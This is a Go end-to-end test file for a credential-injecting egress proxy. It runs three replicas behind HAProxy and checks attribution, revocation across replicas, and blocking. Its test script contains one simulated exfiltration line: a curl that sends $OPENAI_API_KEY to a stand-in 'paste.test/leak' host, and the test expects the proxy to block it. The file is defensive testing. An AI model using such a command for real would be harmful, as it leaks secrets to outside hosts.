package test

// Three replicas behind a real load balancer (HAProxy, TCP mode,
// round-robin), as a platform team runs them (issue 27 item 5,
// docs/cluster.md "Behind a load balancer"): an `execwrap run` registered
// on one replica's control socket sends its connections through the
// balancer, so they land on every replica; each attributes them, injects
// the credential and blocks its misuse, and ending the execution on any
// replica refuses its next connection wherever it lands.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// HAProxy is a running haproxy in TCP mode with one round-robin frontend
// per replica port (HTTP proxy, SOCKS5, admin API).
type HAProxy struct {
	HTTP, SOCKS, Admin string
	dir                string
	out                *SyncBuffer
}

// haproxyBin finds haproxy (Debian installs it in /usr/sbin, which a
// non-root PATH may lack); scripts/install-test-deps.sh installs it.
func haproxyBin(t testing.TB) string {
	t.Helper()
	if p, err := exec.LookPath("haproxy"); err == nil {
		return p
	}
	if _, err := os.Stat("/usr/sbin/haproxy"); err == nil {
		return "/usr/sbin/haproxy"
	}
	t.Fatal("haproxy is required (scripts/install-test-deps.sh installs the Debian package haproxy)")
	return ""
}

// NewHAProxy picks the balancer's ports; the replicas are configured with
// them (cluster.advertise_http) before Start.
func NewHAProxy(t testing.TB) *HAProxy {
	return &HAProxy{HTTP: fmt.Sprintf("127.0.0.1:%d", FreePort(t)), SOCKS: fmt.Sprintf("127.0.0.1:%d", FreePort(t)),
		Admin: fmt.Sprintf("127.0.0.1:%d", FreePort(t)), dir: t.TempDir(), out: &SyncBuffer{}}
}

// Advertise is the [cluster] TOML that makes a replica hand out the
// balancer's addresses.
func (h *HAProxy) Advertise() string {
	return fmt.Sprintf("advertise_http = %q\nadvertise_socks5 = %q\n", h.HTTP, h.SOCKS)
}

// Start runs haproxy in front of replicas until the test ends.
func (h *HAProxy) Start(t *testing.T, replicas []*ClusterReplica) {
	t.Helper()
	var b strings.Builder
	stats := filepath.Join(h.dir, "stats.sock")
	fmt.Fprintf(&b, "global\n    maxconn 4096\n    stats socket %s mode 600\n\ndefaults\n    mode tcp\n    timeout connect 2s\n    timeout client 5m\n    timeout server 5m\n\n", stats)
	for _, f := range []struct {
		name, bind string
		port       func(*Proxy) string
	}{{"http", h.HTTP, func(p *Proxy) string { return p.HTTP }}, {"socks5", h.SOCKS, func(p *Proxy) string { return p.SOCKS }},
		{"admin", h.Admin, func(p *Proxy) string { return p.Admin }}} {
		fmt.Fprintf(&b, "frontend %s\n    bind %s\n    default_backend %s\n\nbackend %s\n    balance roundrobin\n", f.name, f.bind, f.name, f.name)
		for _, r := range replicas {
			fmt.Fprintf(&b, "    server %s %s\n", r.Node, f.port(r.Proxy))
		}
		b.WriteString("\n")
	}
	cfg := filepath.Join(h.dir, "haproxy.cfg")
	if err := os.WriteFile(cfg, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(haproxyBin(t), "-db", "-f", cfg)
	cmd.Stdout, cmd.Stderr = h.out, h.out
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() { cmd.Process.Kill(); <-done })
	// The stats socket is bound with the frontends: once it exists, the
	// balancer listens (no probe connection disturbs the rotation).
	eventually(t, 10*time.Second, "haproxy listening", func() bool {
		select {
		case <-done:
			t.Fatalf("haproxy exited:\n%s", h.out.String())
		default:
		}
		_, err := os.Stat(stats)
		return err == nil
	})
}

// auditLinesOf returns r's audit records attributed to execution id.
func auditLinesOf(r *ClusterReplica, id string) []map[string]any {
	b, _ := os.ReadFile(r.Audit)
	var out []map[string]any
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	for sc.Scan() {
		var m map[string]any
		if json.Unmarshal(sc.Bytes(), &m) == nil && m["execution_id"] == id {
			out = append(out, m)
		}
	}
	return out
}

// activeExecutions lists the executions r's control API knows.
func activeExecutions(t *testing.T, r *ClusterReplica) []string {
	t.Helper()
	resp, err := r.ControlClient().Get("http://netproxy/v1/executions")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out struct {
		Executions []struct {
			ID string `json:"execution_id"`
		}
	}
	json.NewDecoder(resp.Body).Decode(&out)
	ids := make([]string, 0, len(out.Executions))
	for _, e := range out.Executions {
		ids = append(ids, e.ID)
	}
	return ids
}

func TestClusterBehindHAProxy(t *testing.T) {
	upCA, mitmCA := newTestCA(t, "e2e upstream CA"), newTestCA(t, "e2e netproxy MITM CA")
	up := startCredUpstream(t, upCA.leaf(t, "api.cred.test", "paste.test"))
	plain := StartUpstream(t, false)
	rds := StartRedis(t)
	lb := NewHAProxy(t)
	var all []*ClusterReplica
	for _, n := range []string{"node-a", "node-b", "node-c"} {
		all = append(all, credReplicaWith(t, rds, n, mitmCA, upCA, lb.Advertise()))
	}
	a, c := all[0], all[2]
	lb.Start(t, all)

	// The registration hands out the balancer, not the replica.
	reg := a.Register(t, "lb-probe", "e1")
	if reg.HTTPProxy != lb.HTTP || reg.SOCKS5Proxy != lb.SOCKS {
		t.Fatalf("registration on A hands out %s / %s, want the balancer %s / %s", reg.HTTPProxy, reg.SOCKS5Proxy, lb.HTTP, lb.SOCKS)
	}
	a.Revoke(t, reg.ExecutionID)

	dir := sbxDir(t)
	api := fmt.Sprintf("https://api.cred.test:%d/v1/models", up.Port)
	// Seven connections before the execution ends (six to the credential's
	// host, one misuse), three after: round-robin puts each phase on all
	// three replicas.
	script := fmt.Sprintf(`
for i in 1 2 3 4 5 6; do
  echo "cred $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" %[1]s)"
done
echo "paste $(curl -sS -m 10 -o /dev/null -w '%%{http_code}' '%[2]s'"$OPENAI_API_KEY")"
touch phase1
n=0; while [ ! -f go ]; do sleep 0.05; n=$((n+1)); [ $n -gt 600 ] && exit 9; done
for i in 1 2 3; do
  echo "after $(curl -sS -m 5 -o /dev/null -w '%%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" %[1]s 2>/dev/null)"
done
exit 0`, api, plain.URL("paste.test", "/leak?k="))
	ch := sbxRunAsync(t, a.Env(), dir, "--control", a.Control, "--timeout", "50s", "--", "sh", "-c", script)
	eventually(t, 40*time.Second, "the command's first phase", func() bool {
		_, err := os.Stat(filepath.Join(dir, "phase1"))
		return err == nil
	})
	ids := activeExecutions(t, a)
	if len(ids) != 1 {
		t.Fatalf("A holds executions %v, want execwrap's one", ids)
	}
	id := ids[0]
	// Attributed on every replica.
	for _, r := range all {
		eventually(t, 5*time.Second, r.Node+" audits the execution's connections", func() bool { return len(auditLinesOf(r, id)) > 0 })
	}
	// The credential's upstream saw the secret six times.
	if hits, auths := up.seen(); hits != 6 {
		t.Fatalf("credential upstream saw %d requests, want 6", hits)
	} else {
		for _, h := range auths {
			if h != "Bearer "+credSecret {
				t.Fatalf("credential upstream saw Authorization %q (all: %q)", h, auths)
			}
		}
	}
	if plain.Hits() != 0 {
		t.Fatal("paste.test saw the request carrying the placeholder")
	}

	// Ended on C (where it was adopted): gone from every replica within 1 s.
	c.Revoke(t, id)
	took := eventually(t, time.Second, "the execution ended on every replica", func() bool {
		for _, r := range all {
			if len(activeExecutions(t, r)) != 0 {
				return false
			}
		}
		return true
	})
	t.Logf("ended on C, gone from all three replicas after %v", took)
	if err := os.WriteFile(filepath.Join(dir, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	res := sbxAwait(t, ch)
	out := res.r.Stdout
	t.Logf("command output:\n%s", out)
	if res.r.ExitCode != 0 {
		t.Fatalf("command exit %d\n%s\n%s", res.r.ExitCode, out, res.r.Stderr)
	}
	if strings.Count(out, "cred 200") != 6 {
		t.Fatalf("the six credential requests through the balancer: %s", out)
	}
	if !strings.Contains(out, "paste 403") {
		t.Fatalf("the placeholder toward paste.test: %s", out)
	}
	if strings.Count(out, "after ") != 3 || strings.Contains(out, "after 200") {
		t.Fatalf("requests after the execution ended: %s", out)
	}
	if hits, _ := up.seen(); hits != 6 {
		t.Fatalf("credential upstream saw %d requests, want 6 (none after the end)", hits)
	}
	// The misuse was blocked by whichever replica it landed on.
	misuse := 0
	for _, r := range all {
		for _, m := range auditLinesOf(r, id) {
			if m["reason"] == "credential_misuse" {
				misuse++
			}
		}
	}
	if misuse != 1 {
		t.Fatalf("credential_misuse audited %d times across the replicas, want 1", misuse)
	}
	// And the admin API answers through the balancer too (any replica).
	conn, err := (&net.Dialer{Timeout: 2 * time.Second}).DialContext(context.Background(), "tcp", lb.Admin)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(conn, "GET /healthz HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", lb.Admin)
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if line, _ := bufio.NewReader(conn).ReadString('\n'); !strings.Contains(line, "200") {
		t.Fatalf("admin /healthz through the balancer: %q", line)
	}
	conn.Close()
}

// demoPortBase finds a base port whose demo ports (scripts/cluster-demo.sh)
// are all free a moment ago.
func demoPortBase(t *testing.T) int {
	t.Helper()
	offsets := []int{1, 2, 3, 11, 12, 13, 21, 22, 23, 28, 79, 80, 91}
next:
	for try := 0; try < 50; try++ {
		base := 20000 + (FreePort(t)*7+try*131)%40000
		for _, o := range offsets {
			ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", base+o))
			if err != nil {
				continue next
			}
			ln.Close()
		}
		return base
	}
	t.Fatal("no free port range for the demo")
	return 0
}

// TestClusterDemo: `make cluster-demo` (scripts/cluster-demo.sh) starts
// Redis, three replicas and HAProxy, answers through the balancer on every
// replica, and Ctrl-C (SIGINT to its process group) stops all of it and
// removes its folder.
func TestClusterDemo(t *testing.T) {
	haproxyBin(t)
	if _, err := exec.LookPath("redis-server"); err != nil {
		t.Fatal("redis-server is required (scripts/install-test-deps.sh)")
	}
	base := demoPortBase(t)
	cmd := exec.Command("bash", filepath.Join(repoRoot(), "scripts", "cluster-demo.sh"))
	cmd.Env = append(os.Environ(), "NETPROXY="+netproxyBin, fmt.Sprintf("CLUSTER_DEMO_PORT_BASE=%d", base))
	out := &SyncBuffer{}
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		<-done
	})
	eventually(t, 60*time.Second, "cluster-demo ready", func() bool {
		select {
		case <-done:
			t.Fatalf("cluster-demo exited:\n%s", out.String())
		default:
		}
		return strings.Contains(out.String(), "cluster-demo: ready")
	})
	var dir, token string
	for _, l := range strings.Split(out.String(), "\n") {
		if f := strings.Fields(l); len(f) >= 2 && f[0] == "folder:" {
			dir = f[1]
		}
		if _, tok, ok := strings.Cut(l, "login?token="); ok {
			token = strings.Fields(tok)[0]
		}
	}
	if dir == "" || token == "" {
		t.Fatalf("cluster-demo printed no folder or page link:\n%s", out.String())
	}
	lbHTTP, lbAdmin := fmt.Sprintf("127.0.0.1:%d", base+28), fmt.Sprintf("127.0.0.1:%d", base+91)
	// Through the balancer: three requests, one per replica, each denied by
	// the list and audited where it landed.
	for i := 0; i < 3; i++ {
		conn, err := net.DialTimeout("tcp", lbHTTP, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(conn, "GET http://blocked.example/ HTTP/1.1\r\nHost: blocked.example\r\nConnection: close\r\n\r\n")
		conn.SetReadDeadline(time.Now().Add(10 * time.Second))
		line, _ := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		if !strings.Contains(line, "403") {
			t.Fatalf("request %d through the balancer: %q", i, line)
		}
	}
	for _, n := range []string{"node-a", "node-b", "node-c"} {
		eventually(t, 5*time.Second, n+" audits its share", func() bool {
			b, _ := os.ReadFile(filepath.Join(dir, n, "audit.jsonl"))
			return strings.Contains(string(b), `"blocked.example"`)
		})
	}
	// The admin API (the approvals page's) through the balancer, with the
	// printed token.
	req, _ := http.NewRequest("GET", "http://"+lbAdmin+"/api/approvals", nil)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("GET /api/approvals through the balancer: %d", resp.StatusCode)
	}

	// Ctrl-C: everything stops, the folder goes, the ports are free.
	syscall.Kill(-cmd.Process.Pid, syscall.SIGINT)
	select {
	case <-done:
	case <-time.After(15 * time.Second):
		t.Fatalf("cluster-demo still running 15 s after Ctrl-C:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "cluster-demo: stopped") {
		t.Fatalf("no clean stop:\n%s", out.String())
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Fatalf("%s left behind: %v", dir, err)
	}
	for _, o := range []int{3, 13, 23, 28, 79, 91} {
		ln, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", base+o))
		if err != nil {
			t.Fatalf("port %d still taken after the demo stopped: %v", base+o, err)
		}
		ln.Close()
	}
}
